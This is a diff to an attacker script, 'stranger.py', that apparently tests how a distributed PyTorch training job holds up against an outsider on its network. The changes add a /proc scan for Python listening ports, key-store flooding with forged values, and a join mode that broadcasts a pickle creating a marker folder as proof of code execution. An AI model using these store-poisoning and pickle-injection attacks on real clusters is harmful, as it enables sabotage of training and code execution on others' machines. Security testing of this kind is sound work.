@@ -1,8 +1,10 @@
 """Somebody on the same network who has no part in a training, and tries to take one.
 
-    stranger.py flood PORT|all SECS              writes what members write, under the keys that it can guess
+    stranger.py flood PORT|FILE SECS             writes what members write, under the keys that it can guess; FILE lists ports,
+                                                 now or later
     stranger.py join PORT EPOCH RANK WORLD TRACE SECS
                                                  takes a member's place, and hands over a pickle that makes the folder TRACE
+    stranger.py ports FILE SECS                  lists in FILE where programs of Python listen; for root
 
 Says `at PORT` once it is connected, and at the end how it went.
 """
@@ -39,12 +41,30 @@ def connect(port, timeout):
 
 
 def listening():
-    """Ports on which somebody listens."""
+    """Ports at which programs of Python listen. Nobody else's: a connection to srun's port that says nothing holds srun up."""
+    rows = [line.split() for line in pathlib.Path("/proc/net/tcp").read_text().splitlines()[1:]]
+    rows += [line.split() for line in pathlib.Path("/proc/net/tcp6").read_text().splitlines()[1:]]
+    ports = {f"socket:[{row[9]}]": int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}
     found = set()
-    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
-        rows = [line.split() for line in pathlib.Path(table).read_text().splitlines()[1:]]
-        found.update(int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A")
-    return found
+    for process in pathlib.Path("/proc").glob("[0-9]*"):
+        try:
+            if (process / "comm").read_text().startswith("python"):
+                found.update(ports.get(os.readlink(fd), 0) for fd in (process / "fd").iterdir())
+        except OSError:  # It, or what it had open, is gone.
+            continue
+    return found - {0}
+
+
+def list_ports(file, end):
+    new = file.with_suffix(".new")
+    while time.monotonic() < end:
+        new.write_text("\n".join(map(str, listening())))
+        new.replace(file)
+        time.sleep(0.2)
+
+
+def listed(file):
+    return set(map(int, file.read_text().split())) if file.exists() else set()
 
 
 def flood(port, end):
@@ -56,11 +76,11 @@ def flood(port, end):
                 store.set(f"epoch/{epoch}/{name}", "forged")
 
 
-def flood_all(secs):
-    """Whatever stores there are, and those that are opened meanwhile."""
-    end, tried = time.monotonic() + secs, set()
+def flood_all(file, end):
+    """Whatever stores are listed, and those that are opened meanwhile."""
+    tried = set()
     while time.monotonic() < end:
-        for port in listening() - tried:
+        for port in listed(file) - tried:
             tried.add(port)
             threading.Thread(target=lambda port=port: try_to(flood, port, end), daemon=True).start()
         time.sleep(0.2)
@@ -89,13 +109,16 @@ def join(port, epoch, rank, world, trace, secs):
     dist.broadcast(data, rank, group=among)
 
 
-def main(how, port, *words):
-    if how == "flood" and port == "all":
-        flood_all(float(words[0]))
+def main(how, where, *words):
+    end = time.monotonic() + float(words[-1])
+    if how == "ports":
+        list_ports(pathlib.Path(where), end)
+    elif how == "flood" and where.isdigit():
+        try_to(flood, int(where), end)
     elif how == "flood":
-        try_to(flood, int(port), time.monotonic() + float(words[0]))
+        flood_all(pathlib.Path(where), end)
     else:
-        try_to(join, int(port), *map(int, words[:3]), words[3], float(words[4]))
+        try_to(join, int(where), *map(int, words[:3]), words[3], float(words[4]))
     print("done", flush=True)
     # PyTorch would wait for what it has not got.
     os._exit(0)
